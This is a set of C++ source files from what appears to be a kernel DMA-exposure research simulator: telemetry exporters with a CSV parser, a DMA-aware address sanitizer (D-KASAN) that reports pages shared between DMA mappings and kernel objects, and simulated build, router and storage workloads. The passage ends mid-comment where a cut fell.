  std::vector<std::unique_ptr<SpscRing<Event>>> mt_rings_;
  std::atomic<uint64_t> mt_dropped_{0};
  std::atomic<bool> drainer_stop_{false};
  std::thread drainer_;
};

// CSV-escapes `field` (quotes it when it contains a comma, quote or newline).
std::string CsvEscape(std::string_view field);
// JSON string escaping (quotes, backslashes, control characters).
std::string JsonEscape(std::string_view text);

// Parses `Hub::ExportTraceCsv` output back into Events (the inverse of the
// exporter; shared by tools/trace_cli and tests). Accepts both the current
// 12-column format (with `span`) and the pre-span 11-column format. Rows
// that do not parse are skipped; a missing/foreign header line is tolerated.
std::vector<Event> ParseTraceCsv(std::string_view csv);

}  // namespace spv::telemetry

#endif  // SPV_TELEMETRY_TELEMETRY_H_
