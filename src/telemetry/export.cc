// Deterministic exporters for the telemetry Hub.
//
// Determinism contract: registry maps iterate in sorted name order, events in
// seq order, every number is an integer (no locale / float formatting), and
// nothing derived from wall-clock time or pointers is emitted. Two identical
// simulations therefore export byte-identical documents — the property the
// bench harness and the regression tests rely on.

#include <sstream>

#include "telemetry/telemetry.h"

namespace spv::telemetry {

std::string CsvEscape(std::string_view field) {
  const bool needs_quotes =
      field.find_first_of(",\"\n\r") != std::string_view::npos;
  if (!needs_quotes) {
    return std::string(field);
  }
  std::string out;
  out.reserve(field.size() + 2);
  out.push_back('"');
  for (char c : field) {
    if (c == '"') {
      out.push_back('"');
    }
    out.push_back(c);
  }
  out.push_back('"');
  return out;
}

std::string JsonEscape(std::string_view text) {
  std::string out;
  out.reserve(text.size());
  for (char c : text) {
    switch (c) {
      case '"':
        out += "\\\"";
        break;
      case '\\':
        out += "\\\\";
        break;
      case '\n':
        out += "\\n";
        break;
      case '\r':
        out += "\\r";
        break;
      case '\t':
        out += "\\t";
        break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          constexpr char kHex[] = "0123456789abcdef";
          out += "\\u00";
          out.push_back(kHex[(c >> 4) & 0xf]);
          out.push_back(kHex[c & 0xf]);
        } else {
          out.push_back(c);
        }
    }
  }
  return out;
}

namespace {

void AppendEventJson(std::ostringstream& out, const Event& event) {
  out << "{\"seq\":" << event.seq << ",\"cycle\":" << event.cycle << ",\"kind\":\""
      << EventKindName(event.kind) << "\",\"severity\":\"" << SeverityName(event.severity)
      << "\",\"device\":" << event.device << ",\"addr\":" << event.addr
      << ",\"addr2\":" << event.addr2 << ",\"len\":" << event.len << ",\"aux\":" << event.aux
      << ",\"flag\":" << (event.flag ? 1 : 0) << ",\"site\":\"" << JsonEscape(event.site)
      << "\"}";
}

}  // namespace

std::string Hub::ExportJson(size_t max_trace_events) const {
  std::ostringstream out;
  out << "{\n  \"counters\": {";
  bool first = true;
  for (const auto& [name, counter] : counters_) {
    out << (first ? "\n" : ",\n") << "    \"" << JsonEscape(name)
        << "\": " << counter.value();
    first = false;
  }
  out << (first ? "}" : "\n  }") << ",\n  \"histograms\": {";
  first = true;
  for (const auto& [name, histogram] : histograms_) {
    out << (first ? "\n" : ",\n") << "    \"" << JsonEscape(name)
        << "\": {\"count\":" << histogram.count() << ",\"sum\":" << histogram.sum()
        << ",\"min\":" << histogram.min() << ",\"max\":" << histogram.max() << ",\"buckets\":[";
    bool first_bucket = true;
    for (const Histogram::Bucket& bucket : histogram.NonZeroBuckets()) {
      out << (first_bucket ? "" : ",") << "[" << bucket.upper_bound << "," << bucket.count
          << "]";
      first_bucket = false;
    }
    out << "]}";
    first = false;
  }
  out << (first ? "}" : "\n  }") << ",\n  \"trace\": {\"recorded\":" << ring_.recorded()
      << ",\"dropped\":" << ring_.dropped() << ",\"filtered\":" << ring_.filtered()
      << ",\"events\":[";
  const std::vector<Event> events = ring_.Snapshot();
  size_t emitted = 0;
  for (const Event& event : events) {
    if (emitted >= max_trace_events) {
      break;
    }
    out << (emitted == 0 ? "\n    " : ",\n    ");
    AppendEventJson(out, event);
    ++emitted;
  }
  out << (emitted == 0 ? "]" : "\n  ]") << "}\n}\n";
  return out.str();
}

std::string Hub::ExportCountersCsv() const {
  std::ostringstream out;
  out << "name,value\n";
  for (const auto& [name, counter] : counters_) {
    out << CsvEscape(name) << "," << counter.value() << "\n";
  }
  return out.str();
}

std::string Hub::ExportTraceCsv() const {
  std::ostringstream out;
  out << "seq,cycle,kind,severity,device,addr,addr2,len,aux,flag,site\n";
  for (const Event& event : ring_.Snapshot()) {
    out << event.seq << "," << event.cycle << "," << EventKindName(event.kind) << ","
        << SeverityName(event.severity) << "," << event.device << "," << event.addr << ","
        << event.addr2 << "," << event.len << "," << event.aux << "," << (event.flag ? 1 : 0)
        << "," << CsvEscape(event.site) << "\n";
  }
  return out.str();
}

}  // namespace spv::telemetry
