// Deterministic exporters for the telemetry Hub.
//
// Determinism contract: registry maps iterate in sorted name order, events in
// seq order, every number is an integer (no locale / float formatting), and
// nothing derived from wall-clock time or pointers is emitted. Two identical
// simulations therefore export byte-identical documents — the property the
// bench harness and the regression tests rely on.

#include <sstream>

#include "telemetry/telemetry.h"

namespace spv::telemetry {

std::string CsvEscape(std::string_view field) {
  const bool needs_quotes =
      field.find_first_of(",\"\n\r") != std::string_view::npos;
  if (!needs_quotes) {
    return std::string(field);
  }
  std::string out;
  out.reserve(field.size() + 2);
  out.push_back('"');
  for (char c : field) {
    if (c == '"') {
      out.push_back('"');
    }
    out.push_back(c);
  }
  out.push_back('"');
  return out;
}

std::string JsonEscape(std::string_view text) {
  std::string out;
  out.reserve(text.size());
  for (char c : text) {
    switch (c) {
      case '"':
        out += "\\\"";
        break;
      case '\\':
        out += "\\\\";
        break;
      case '\n':
        out += "\\n";
        break;
      case '\r':
        out += "\\r";
        break;
      case '\t':
        out += "\\t";
        break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          constexpr char kHex[] = "0123456789abcdef";
          out += "\\u00";
          out.push_back(kHex[(c >> 4) & 0xf]);
          out.push_back(kHex[c & 0xf]);
        } else {
          out.push_back(c);
        }
    }
  }
  return out;
}

namespace {

void AppendEventJson(std::ostringstream& out, const Event& event) {
  out << "{\"seq\":" << event.seq << ",\"cycle\":" << event.cycle << ",\"kind\":\""
      << EventKindName(event.kind) << "\",\"severity\":\"" << SeverityName(event.severity)
      << "\",\"device\":" << event.device << ",\"addr\":" << event.addr
      << ",\"addr2\":" << event.addr2 << ",\"len\":" << event.len << ",\"aux\":" << event.aux
      << ",\"flag\":" << (event.flag ? 1 : 0) << ",\"span\":" << event.span << ",\"site\":\""
      << JsonEscape(event.site) << "\"}";
}

}  // namespace

std::string Hub::ExportJson(size_t max_trace_events) const {
  std::ostringstream out;
  out << "{\n  \"counters\": {";
  bool first = true;
  for (const auto& [name, counter] : counters_) {
    out << (first ? "\n" : ",\n") << "    \"" << JsonEscape(name)
        << "\": " << counter.value();
    first = false;
  }
  out << (first ? "}" : "\n  }") << ",\n  \"histograms\": {";
  first = true;
  for (const auto& [name, histogram] : histograms_) {
    out << (first ? "\n" : ",\n") << "    \"" << JsonEscape(name)
        << "\": {\"count\":" << histogram.count() << ",\"sum\":" << histogram.sum()
        << ",\"min\":" << histogram.min() << ",\"max\":" << histogram.max()
        << ",\"p50\":" << histogram.PercentileUpperBound(50.0)
        << ",\"p90\":" << histogram.PercentileUpperBound(90.0)
        << ",\"p99\":" << histogram.PercentileUpperBound(99.0) << ",\"buckets\":[";
    bool first_bucket = true;
    for (const Histogram::Bucket& bucket : histogram.NonZeroBuckets()) {
      out << (first_bucket ? "" : ",") << "[" << bucket.upper_bound << "," << bucket.count
          << "]";
      first_bucket = false;
    }
    out << "]}";
    first = false;
  }
  // `dropped_critical` is the fail-loud field: a nonzero value means security
  // findings were overwritten and the export below is an incomplete record.
  out << (first ? "}" : "\n  }") << ",\n  \"trace\": {\"recorded\":" << ring_.recorded()
      << ",\"dropped\":" << ring_.dropped()
      << ",\"dropped_critical\":" << ring_.dropped(Severity::kCritical)
      << ",\"dropped_by_severity\":[" << ring_.dropped(Severity::kTrace) << ","
      << ring_.dropped(Severity::kInfo) << "," << ring_.dropped(Severity::kWarn) << ","
      << ring_.dropped(Severity::kCritical) << "]"
      << ",\"filtered\":" << ring_.filtered() << ",\"events\":[";
  const std::vector<Event> events = ring_.Snapshot();
  size_t emitted = 0;
  for (const Event& event : events) {
    if (emitted >= max_trace_events) {
      break;
    }
    out << (emitted == 0 ? "\n    " : ",\n    ");
    AppendEventJson(out, event);
    ++emitted;
  }
  out << (emitted == 0 ? "]" : "\n  ]") << "}\n}\n";
  return out.str();
}

std::string Hub::ExportCountersCsv() const {
  std::ostringstream out;
  out << "name,value\n";
  for (const auto& [name, counter] : counters_) {
    out << CsvEscape(name) << "," << counter.value() << "\n";
  }
  return out.str();
}

std::string Hub::ExportTraceCsv() const {
  std::ostringstream out;
  out << "seq,cycle,kind,severity,device,addr,addr2,len,aux,flag,span,site\n";
  for (const Event& event : ring_.Snapshot()) {
    out << event.seq << "," << event.cycle << "," << EventKindName(event.kind) << ","
        << SeverityName(event.severity) << "," << event.device << "," << event.addr << ","
        << event.addr2 << "," << event.len << "," << event.aux << "," << (event.flag ? 1 : 0)
        << "," << event.span << "," << CsvEscape(event.site) << "\n";
  }
  return out.str();
}

// ---- Trace CSV import ------------------------------------------------------------

namespace {

// Splits one CSV record into fields, honoring double-quoted fields with ""
// escapes (the exact dialect CsvEscape emits).
std::vector<std::string> SplitCsvFields(std::string_view line) {
  std::vector<std::string> fields;
  std::string current;
  bool in_quotes = false;
  for (size_t i = 0; i < line.size(); ++i) {
    const char c = line[i];
    if (in_quotes) {
      if (c == '"') {
        if (i + 1 < line.size() && line[i + 1] == '"') {
          current.push_back('"');
          ++i;
        } else {
          in_quotes = false;
        }
      } else {
        current.push_back(c);
      }
    } else if (c == '"') {
      in_quotes = true;
    } else if (c == ',') {
      fields.push_back(std::move(current));
      current.clear();
    } else if (c != '\r') {
      current.push_back(c);
    }
  }
  fields.push_back(std::move(current));
  return fields;
}

bool ParseU64(const std::string& text, uint64_t* out) {
  if (text.empty()) {
    return false;
  }
  uint64_t value = 0;
  for (char c : text) {
    if (c < '0' || c > '9') {
      return false;
    }
    value = value * 10 + static_cast<uint64_t>(c - '0');
  }
  *out = value;
  return true;
}

}  // namespace

std::vector<Event> ParseTraceCsv(std::string_view csv) {
  std::vector<Event> events;
  size_t pos = 0;
  while (pos < csv.size()) {
    size_t end = csv.find('\n', pos);
    if (end == std::string_view::npos) {
      end = csv.size();
    }
    const std::string_view line = csv.substr(pos, end - pos);
    pos = end + 1;
    if (line.empty() || line.substr(0, 4) == "seq,") {
      continue;  // blank line or header
    }
    const std::vector<std::string> fields = SplitCsvFields(line);
    // 11 columns is the pre-span format; 12 adds `span` before `site`.
    if (fields.size() != 11 && fields.size() != 12) {
      continue;
    }
    const bool has_span = fields.size() == 12;
    Event event;
    uint64_t device = 0;
    uint64_t flag = 0;
    const std::optional<EventKind> kind = EventKindFromName(fields[2]);
    const std::optional<Severity> severity = SeverityFromName(fields[3]);
    if (!kind.has_value() || !severity.has_value() || !ParseU64(fields[0], &event.seq) ||
        !ParseU64(fields[1], &event.cycle) || !ParseU64(fields[4], &device) ||
        !ParseU64(fields[5], &event.addr) || !ParseU64(fields[6], &event.addr2) ||
        !ParseU64(fields[7], &event.len) || !ParseU64(fields[8], &event.aux) ||
        !ParseU64(fields[9], &flag)) {
      continue;
    }
    if (has_span && !ParseU64(fields[10], &event.span)) {
      continue;
    }
    event.kind = *kind;
    event.severity = *severity;
    event.device = static_cast<uint32_t>(device);
    event.flag = flag != 0;
    event.site = fields[has_span ? 11 : 10];
    events.push_back(std::move(event));
  }
  return events;
}

}  // namespace spv::telemetry
