#include "dkasan/dkasan.h"

#include <sstream>

namespace spv::dkasan {

std::string ReportKindName(ReportKind kind) {
  switch (kind) {
    case ReportKind::kAllocAfterMap:
      return "alloc-after-map";
    case ReportKind::kMapAfterAlloc:
      return "map-after-alloc";
    case ReportKind::kAccessAfterMap:
      return "access-after-map";
    case ReportKind::kMultipleMap:
      return "multiple-map";
  }
  return "?";
}

std::string Report::ToLine(int index) const {
  std::ostringstream out;
  out << "[" << index << "] size " << size << " [" << iommu::AccessRightsName(rights) << "] "
      << site;
  if (!detail.empty()) {
    out << "  (" << ReportKindName(kind) << ": " << detail << ")";
  } else {
    out << "  (" << ReportKindName(kind) << ")";
  }
  return out.str();
}

DKasan::PageShadow* DKasan::ShadowFor(Kva kva) {
  Result<PhysAddr> phys = layout_.DirectMapKvaToPhys(kva);
  if (!phys.ok()) {
    return nullptr;
  }
  return &shadow_[phys->pfn().value];
}

void DKasan::AddReport(Report report) {
  if (dedup_) {
    const auto key = std::make_pair(static_cast<uint8_t>(report.kind), report.site);
    if (seen_.contains(key)) {
      return;
    }
    seen_[key] = true;
  }
  if (hub_ != nullptr && hub_->active()) {
    telemetry::Event event;
    event.kind = telemetry::EventKind::kDkasanReport;
    event.severity = telemetry::Severity::kCritical;
    event.addr = report.kva.value;
    event.len = report.size;
    event.aux = static_cast<uint64_t>(report.kind);
    event.origin = this;
    event.site = ReportKindName(report.kind) + ": " + report.site;
    hub_->Publish(std::move(event));
    if (hub_->enabled()) {
      hub_->counter("dkasan.reports").Add();
      hub_->counter("dkasan.reports." + ReportKindName(report.kind)).Add();
    }
  }
  reports_.push_back(std::move(report));
}

void DKasan::OnAlloc(Kva kva, uint64_t size, std::string_view site) {
  live_objects_[kva.value] = LiveObject{size, std::string(site)};
  // alloc-after-map: any page the object touches is currently mapped.
  const uint64_t first = kva.PageBase().value;
  const uint64_t last = (kva.value + size - 1) & ~kPageMask;
  for (uint64_t page = first; page <= last; page += kPageSize) {
    PageShadow* shadow = ShadowFor(Kva{page});
    if (shadow != nullptr && shadow->map_count > 0) {
      Report report;
      report.kind = ReportKind::kAllocAfterMap;
      report.kva = kva;
      report.size = size;
      report.rights = static_cast<iommu::AccessRights>(shadow->merged_rights);
      report.site = std::string(site);
      report.detail = "object allocated on a DMA-mapped page (mapped at " +
                      shadow->first_map_site + ")";
      AddReport(std::move(report));
      return;
    }
  }
}

void DKasan::OnFree(Kva kva, uint64_t size) {
  (void)size;
  live_objects_.erase(kva.value);
}

void DKasan::OnMap(DeviceId device, Kva kva, uint64_t len, Iova iova,
                   iommu::AccessRights rights, std::string_view site) {
  (void)device;
  (void)iova;
  const uint64_t first = kva.PageBase().value;
  const uint64_t last = (kva.value + len - 1) & ~kPageMask;
  for (uint64_t page = first; page <= last; page += kPageSize) {
    PageShadow* shadow = ShadowFor(Kva{page});
    if (shadow == nullptr) {
      continue;
    }
    if (shadow->map_count > 0) {
      Report report;
      report.kind = ReportKind::kMultipleMap;
      report.kva = Kva{page};
      report.size = len;
      report.rights =
          static_cast<iommu::AccessRights>(shadow->merged_rights |
                                           static_cast<uint8_t>(rights));
      report.site = std::string(site);
      report.detail = "page mapped " + std::to_string(shadow->map_count + 1) +
                      " times (first at " + shadow->first_map_site + ")";
      AddReport(std::move(report));
    }
    if (shadow->map_count == 0) {
      shadow->first_map_site = std::string(site);
    }
    ++shadow->map_count;
    shadow->merged_rights |= static_cast<uint8_t>(rights);

    // map-after-alloc: a live object that is NOT the mapped buffer shares
    // this page.
    auto it = live_objects_.lower_bound(page > kPageSize ? page - kPageSize + 1 : 0);
    for (; it != live_objects_.end() && it->first < page + kPageSize; ++it) {
      const uint64_t obj_start = it->first;
      const uint64_t obj_end = obj_start + it->second.size;
      if (obj_end <= page || obj_start >= page + kPageSize) {
        continue;  // does not intersect this page
      }
      if (obj_start >= kva.value && obj_end <= kva.value + len) {
        continue;  // the mapped buffer itself
      }
      Report report;
      report.kind = ReportKind::kMapAfterAlloc;
      report.kva = Kva{obj_start};
      report.size = it->second.size;
      report.rights = rights;
      report.site = it->second.site;
      report.detail = "containing page mapped after allocation (map at " +
                      std::string(site) + ")";
      AddReport(std::move(report));
    }
  }
}

void DKasan::OnUnmap(DeviceId device, Kva kva, uint64_t len) {
  (void)device;
  const uint64_t first = kva.PageBase().value;
  const uint64_t last = (kva.value + len - 1) & ~kPageMask;
  for (uint64_t page = first; page <= last; page += kPageSize) {
    PageShadow* shadow = ShadowFor(Kva{page});
    if (shadow != nullptr && shadow->map_count > 0) {
      --shadow->map_count;
      if (shadow->map_count == 0) {
        shadow->merged_rights = 0;
        shadow->first_map_site.clear();
      }
    }
  }
}

void DKasan::OnCpuAccess(Kva kva, uint64_t len, bool is_write) {
  const uint64_t first = kva.PageBase().value;
  const uint64_t last = len > 0 ? ((kva.value + len - 1) & ~kPageMask) : first;
  for (uint64_t page = first; page <= last; page += kPageSize) {
    PageShadow* shadow = ShadowFor(Kva{page});
    if (shadow != nullptr && shadow->map_count > 0) {
      Report report;
      report.kind = ReportKind::kAccessAfterMap;
      report.kva = kva;
      report.size = len;
      report.rights = static_cast<iommu::AccessRights>(shadow->merged_rights);
      report.site = std::string(is_write ? "cpu-write" : "cpu-read") + " on page mapped at " +
                    shadow->first_map_site;
      AddReport(std::move(report));
      return;
    }
  }
}

std::vector<Report> DKasan::ReportsOfKind(ReportKind kind) const {
  std::vector<Report> out;
  for (const Report& report : reports_) {
    if (report.kind == kind) {
      out.push_back(report);
    }
  }
  return out;
}

uint64_t DKasan::count(ReportKind kind) const {
  uint64_t n = 0;
  for (const Report& report : reports_) {
    n += report.kind == kind ? 1 : 0;
  }
  return n;
}

std::string DKasan::FormatReport(size_t max_lines) const {
  std::ostringstream out;
  out << "D-KASAN report (" << reports_.size() << " findings)\n";
  int index = 1;
  for (const Report& report : reports_) {
    if (static_cast<size_t>(index) > max_lines) {
      out << "  ... " << (reports_.size() - max_lines) << " more\n";
      break;
    }
    out << "  " << report.ToLine(index++) << "\n";
  }
  return out.str();
}

}  // namespace spv::dkasan
