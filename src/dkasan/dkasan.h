// D-KASAN: the DMA Kernel Address SANitizer (§4.2).
//
// KASAN extended to track DMA-map operations alongside allocations. Shadow
// state records, per physical page, whether it is currently DMA-mapped (and
// with what access), and per byte-range, which allocation owns it. Observers
// on the slab allocators and the DMA API feed the events; CPU accesses come
// from the KernelMemory instrumentation hook. Four report classes:
//
//   1. alloc-after-map : an object is allocated from a page that is already
//                        DMA-mapped (random exposure, type (d));
//   2. map-after-alloc : a page holding a live unrelated object gets mapped;
//   3. access-after-map: the CPU touches a DMA-mapped page (CPU/device
//                        sharing — the racing ground of §5.2);
//   4. multiple-map    : a page mapped more than once, possibly with
//                        different permissions (type (c)).

#ifndef SPV_DKASAN_DKASAN_H_
#define SPV_DKASAN_DKASAN_H_

#include <cstdint>
#include <map>
#include <string>
#include <unordered_map>
#include <vector>

#include "base/types.h"
#include "dma/dma_api.h"
#include "dma/observer.h"
#include "iommu/access_rights.h"
#include "mem/kernel_layout.h"
#include "slab/observer.h"
#include "slab/page_frag.h"
#include "slab/slab_allocator.h"

namespace spv::dkasan {

enum class ReportKind : uint8_t {
  kAllocAfterMap,
  kMapAfterAlloc,
  kAccessAfterMap,
  kMultipleMap,
};

std::string ReportKindName(ReportKind kind);

struct Report {
  ReportKind kind;
  Kva kva;                      // address of the triggering object/access
  uint64_t size = 0;            // allocation/access size
  iommu::AccessRights rights =  // rights of the involved mapping(s)
      iommu::AccessRights::kNone;
  std::string site;             // allocating/mapping location
  std::string detail;

  // Figure-3 style line:
  //   "[k] size 512 [READ, WRITE] __alloc_skb+0xe0/0x3f0"
  std::string ToLine(int index) const;
};

class DKasan : public slab::SlabObserver, public dma::DmaObserver {
 public:
  explicit DKasan(const mem::KernelLayout& layout) : layout_(layout) {}

  // Publishes every report as a kDkasanReport event (critical severity) on
  // top of the local report list. Pass nullptr to detach.
  void set_telemetry(telemetry::Hub* hub) { hub_ = hub; }

  // Attach to the event sources. (Call once each; detach by destroying the
  // sources first or removing observers.)
  void Attach(slab::SlabAllocator& slab) { slab.AddObserver(this); }
  void Attach(slab::PageFragPool& pool) { pool.AddObserver(this); }
  void Attach(dma::DmaApi& dma) { dma.AddObserver(this); }

  // ---- slab::SlabObserver -----------------------------------------------------

  void OnAlloc(Kva kva, uint64_t size, std::string_view site) override;
  void OnFree(Kva kva, uint64_t size) override;

  // ---- dma::DmaObserver --------------------------------------------------------

  void OnMap(DeviceId device, Kva kva, uint64_t len, Iova iova, iommu::AccessRights rights,
             std::string_view site) override;
  void OnUnmap(DeviceId device, Kva kva, uint64_t len) override;
  void OnCpuAccess(Kva kva, uint64_t len, bool is_write) override;

  // ---- Results ------------------------------------------------------------------

  const std::vector<Report>& reports() const { return reports_; }
  std::vector<Report> ReportsOfKind(ReportKind kind) const;
  uint64_t count(ReportKind kind) const;

  // Full report text (Figure 3 shape).
  std::string FormatReport(size_t max_lines = 32) const;

  void ClearReports() { reports_.clear(); }

  // Deduplicate by (kind, site): repeated identical findings are noise.
  void set_dedup(bool dedup) { dedup_ = dedup; }

 private:
  struct PageShadow {
    // Live mappings covering this page: device -> rights (merged).
    uint32_t map_count = 0;
    uint8_t merged_rights = 0;
    std::string first_map_site;
  };
  struct LiveObject {
    uint64_t size;
    std::string site;
  };

  void AddReport(Report report);
  PageShadow* ShadowFor(Kva kva);

  const mem::KernelLayout& layout_;
  std::unordered_map<uint64_t, PageShadow> shadow_;       // pfn -> state
  std::map<uint64_t, LiveObject> live_objects_;           // kva -> object
  std::vector<Report> reports_;
  std::map<std::pair<uint8_t, std::string>, bool> seen_;  // dedup key
  bool dedup_ = true;
  telemetry::Hub* hub_ = nullptr;
};

}  // namespace spv::dkasan

#endif  // SPV_DKASAN_DKASAN_H_
