#include "dkasan/workload.h"

#include <array>
#include <vector>

#include "base/rng.h"
#include "net/layouts.h"

namespace spv::dkasan {

namespace {

// Allocation sites and sizes mirroring Figure 3.
struct SitePattern {
  const char* site;
  uint64_t size;
};

constexpr std::array<SitePattern, 6> kBuildSites = {{
    {"load_elf_phdrs+0xbf/0x130", 512},
    {"__do_execve_file.isra.0+0x287/0x1080", 512},
    {"sock_alloc_inode+0x4f/0x120", 64},
    {"assoc_array_insert+0xa9/0x7e0", 328},
    {"__alloc_skb+0xe0/0x3f0", 512},
    {"getname_flags+0x4f/0x1e0", 4096},
}};

}  // namespace

Result<WorkloadStats> RunBuildAndPingWorkload(core::Machine& machine, net::NicDriver& nic,
                                              device::MaliciousNic& device,
                                              const WorkloadConfig& config) {
  trace::ScopedSpan span(machine.tracer(), "dkasan.workload.build_and_ping");
  WorkloadStats stats;
  Xoshiro256 rng{config.seed};
  std::vector<Kva> live;

  SPV_RETURN_IF_ERROR(nic.FillRxRing());
  machine.stack().set_egress(&nic);

  for (int i = 0; i < config.iterations; ++i) {
    // ---- "compile": bursts of metadata allocations --------------------------
    const int burst = 1 + static_cast<int>(rng.NextBelow(4));
    for (int b = 0; b < burst; ++b) {
      const SitePattern& pattern = kBuildSites[rng.NextBelow(kBuildSites.size())];
      Result<Kva> kva = machine.slab().Kmalloc(pattern.size, pattern.site);
      if (kva.ok()) {
        live.push_back(*kva);
        ++stats.allocs;
        // The "compiler" touches its data.
        (void)machine.kmem().WriteU64(*kva, 0x636f6d70696c65ULL);
      }
    }
    while (!live.empty() && rng.NextBool(config.free_probability)) {
      const size_t victim = rng.NextBelow(live.size());
      if (machine.slab().Kfree(live[victim]).ok()) {
        ++stats.frees;
      }
      live[victim] = live.back();
      live.pop_back();
    }

    // ---- "ping": light RX traffic -------------------------------------------
    if (i % 3 == 0) {
      net::PacketHeader ping{.src_ip = 0x0a000002,
                             .dst_ip = machine.stack().config().local_ip,
                             .src_port = 0,
                             .dst_port = 7,  // echo
                             .proto = net::kProtoUdp,
                             .flags = 0,
                             .payload_len = 56,
                             .seq = static_cast<uint32_t>(i)};
      std::vector<uint8_t> payload(56, 0xa5);
      Result<uint32_t> index = device.InjectRx(ping, payload);
      if (index.ok()) {
        Result<net::SkBuffPtr> skb = nic.CompleteRx(
            *index, static_cast<uint32_t>(net::PacketHeader::kSize + payload.size()));
        if (skb.ok()) {
          ++stats.rx_packets;
          SPV_RETURN_IF_ERROR(machine.stack().NapiGroReceive(std::move(*skb)));
        }
      }
    }

    // ---- occasional TX (ping replies / build artifacts uploaded) ------------
    if (i % 7 == 0) {
      net::PacketHeader reply{.src_ip = machine.stack().config().local_ip,
                              .dst_ip = 0x0a000002,
                              .src_port = 7,
                              .dst_port = 0,
                              .proto = net::kProtoUdp};
      std::vector<uint8_t> payload(56, 0x5a);
      if (machine.stack().SendPacket(reply, payload).ok()) {
        ++stats.tx_packets;
      }
      // Complete any outstanding TX so the rings do not fill up.
      for (const net::TxPostedDescriptor& descriptor : device.tx_posted()) {
        (void)machine.stack().OnTxCompleted(descriptor.index);
      }
      device.tx_posted().clear();
    }
  }

  for (Kva kva : live) {
    (void)machine.slab().Kfree(kva);
  }
  return stats;
}

Result<WorkloadStats> RunRouterWorkload(core::Machine& machine, net::NicDriver& nic,
                                        device::MaliciousNic& device,
                                        const WorkloadConfig& config) {
  trace::ScopedSpan span(machine.tracer(), "dkasan.workload.router");
  if (!machine.stack().config().forwarding_enabled) {
    return FailedPrecondition("router workload needs forwarding enabled");
  }
  WorkloadStats stats;
  Xoshiro256 rng{config.seed};
  std::vector<Kva> conntrack;

  SPV_RETURN_IF_ERROR(nic.FillRxRing());
  machine.stack().set_egress(&nic);

  for (int i = 0; i < config.iterations; ++i) {
    // Connection tracking entries churn with the flows.
    if (rng.NextBool(0.5)) {
      Result<Kva> entry = machine.slab().Kmalloc(320, "nf_conntrack_alloc+0x1b0/0x5c0");
      if (entry.ok()) {
        conntrack.push_back(*entry);
        ++stats.allocs;
      }
    }
    while (!conntrack.empty() && rng.NextBool(config.free_probability * 0.5)) {
      if (machine.slab().Kfree(conntrack.back()).ok()) {
        ++stats.frees;
      }
      conntrack.pop_back();
    }

    // A TCP segment of one of a few flows, destined elsewhere: forwarded.
    net::PacketHeader header{.src_ip = 0x0a000002,
                             .dst_ip = 0x0a0000f0 + static_cast<uint32_t>(rng.NextBelow(4)),
                             .src_port = static_cast<uint16_t>(50000 + rng.NextBelow(4)),
                             .dst_port = 443,
                             .proto = net::kProtoTcp,
                             .flags = 0,
                             .payload_len = 0,
                             .seq = static_cast<uint32_t>(i)};
    std::vector<uint8_t> payload(256 + rng.NextBelow(1024), 0x6e);
    Result<uint32_t> index = device.InjectRx(header, payload);
    if (index.ok()) {
      Result<net::SkBuffPtr> skb = nic.CompleteRx(
          *index, static_cast<uint32_t>(net::PacketHeader::kSize + payload.size()));
      if (skb.ok()) {
        ++stats.rx_packets;
        SPV_RETURN_IF_ERROR(machine.stack().NapiGroReceive(std::move(*skb)));
      }
    }
    if (i % 8 == 7) {
      SPV_RETURN_IF_ERROR(machine.stack().NapiComplete());
      for (const net::TxPostedDescriptor& descriptor : device.tx_posted()) {
        (void)machine.stack().OnTxCompleted(descriptor.index);
        ++stats.tx_packets;
      }
      device.tx_posted().clear();
    }
  }
  SPV_RETURN_IF_ERROR(machine.stack().NapiComplete());
  for (const net::TxPostedDescriptor& descriptor : device.tx_posted()) {
    (void)machine.stack().OnTxCompleted(descriptor.index);
    ++stats.tx_packets;
  }
  device.tx_posted().clear();
  for (Kva kva : conntrack) {
    (void)machine.slab().Kfree(kva);
  }
  return stats;
}

Result<WorkloadStats> RunStorageWorkload(core::Machine& machine, DeviceId storage_dev,
                                         const WorkloadConfig& config) {
  trace::ScopedSpan span(machine.tracer(), "dkasan.workload.storage");
  WorkloadStats stats;
  Xoshiro256 rng{config.seed};
  machine.iommu().AttachDevice(storage_dev);

  struct Inflight {
    Iova iova;
    Kva kva;
    uint64_t len;
  };
  std::vector<Inflight> inflight;
  std::vector<Kva> fs_meta;

  constexpr std::array<SitePattern, 4> kFsSites = {{
      {"alloc_inode+0x1a/0xa0", 600},
      {"d_alloc+0x29/0x1c0", 192},
      {"jbd2_journal_add_journal_head+0x15/0x120", 120},
      {"ext4_find_extent+0x44/0x2f0", 88},
  }};

  for (int i = 0; i < config.iterations; ++i) {
    // Filesystem metadata churn.
    const SitePattern& pattern = kFsSites[rng.NextBelow(kFsSites.size())];
    Result<Kva> meta = machine.slab().Kmalloc(pattern.size, pattern.site);
    if (meta.ok()) {
      fs_meta.push_back(*meta);
      ++stats.allocs;
    }
    while (!fs_meta.empty() && rng.NextBool(config.free_probability)) {
      if (machine.slab().Kfree(fs_meta.back()).ok()) {
        ++stats.frees;
      }
      fs_meta.pop_back();
    }

    // NVMe I/O: PRP list (small kmalloc) + data buffer, mapped BIDIRECTIONAL.
    if (rng.NextBool(0.7)) {
      const uint64_t io_len = 512ull << rng.NextBelow(4);  // 512..4096
      Result<Kva> buf = machine.slab().Kmalloc(io_len, "nvme_map_data+0x90/0x230");
      if (buf.ok()) {
        ++stats.allocs;
        Result<Iova> iova =
            machine.dma().MapSingle(storage_dev, *buf, io_len,
                                    dma::DmaDirection::kBidirectional, "nvme_queue_rq");
        if (iova.ok()) {
          inflight.push_back(Inflight{*iova, *buf, io_len});
          ++stats.rx_packets;  // "I/Os submitted"
        } else {
          (void)machine.slab().Kfree(*buf);
        }
      }
    }
    // Completions.
    while (inflight.size() > 8 || (!inflight.empty() && rng.NextBool(0.4))) {
      const Inflight io = inflight.back();
      inflight.pop_back();
      (void)machine.dma().UnmapSingle(storage_dev, io.iova, io.len,
                                      dma::DmaDirection::kBidirectional);
      if (machine.slab().Kfree(io.kva).ok()) {
        ++stats.frees;
        ++stats.tx_packets;  // "I/Os completed"
      }
    }
  }
  for (const Inflight& io : inflight) {
    (void)machine.dma().UnmapSingle(storage_dev, io.iova, io.len,
                                    dma::DmaDirection::kBidirectional);
    (void)machine.slab().Kfree(io.kva);
  }
  for (Kva kva : fs_meta) {
    (void)machine.slab().Kfree(kva);
  }
  return stats;
}

}  // namespace spv::dkasan
