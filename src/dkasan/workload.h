// The §4.2 evaluation workload: "cloned a large project from a Git repository
